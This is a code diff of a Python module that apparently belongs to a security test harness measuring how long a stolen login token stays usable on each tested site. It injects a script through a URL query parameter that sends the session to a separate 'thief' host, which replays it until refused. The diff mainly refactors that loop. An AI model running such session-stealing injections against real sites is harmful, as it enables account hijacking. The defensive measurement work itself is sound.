@@ -12,7 +12,8 @@ from ..elsewhere import elsewhere
 from .experiment import Chart, Experiment, Measured, Part, Value, Verdict
 
 if TYPE_CHECKING:
-    from ..laboratory import Laboratory, Site
+    from ..laboratory import Laboratory
+    from ..site import Site
 
 LIFETIME = 6.0
 """Seconds that a login lasts here. In life it is hours or days."""
@@ -34,9 +35,8 @@ SECONDS = "seconds that the loot was of use"
 
 def measure(laboratory: Laboratory) -> Measured:
     """The thief tries on another machine what the script sent, until it is refused."""
-    found: dict[str, dict[str, Value]] = {}
-    for name in laboratory.contenders:
-        laboratory.tell(name)
+
+    def one(name: str) -> dict[str, Value]:
         with laboratory.site(name, absolute=LIFETIME) as site, laboratory.tab(site) as tab, elsewhere() as thief:
             tab.log_in()
             tab.page.goto(f"{site.url}/?hello={quote(SCRIPT.format(url=thief.other_site))}")
@@ -55,8 +55,9 @@ def measure(laboratory: Laboratory) -> Measured:
             values[AFTER] = _is_of_use(site, taken)
             while taken and _is_of_use(site, taken):
                 time.sleep(0.05)
-            found[name] = values | {SECONDS: round(time.monotonic() - began, 2) if values[ELSEWHERE] else 0.0}
-    return found
+            return values | {SECONDS: round(time.monotonic() - began, 2) if values[ELSEWHERE] else 0.0}
+
+    return laboratory.each(one)
 
 
 def _token(loot: str) -> tuple[str, str] | None:
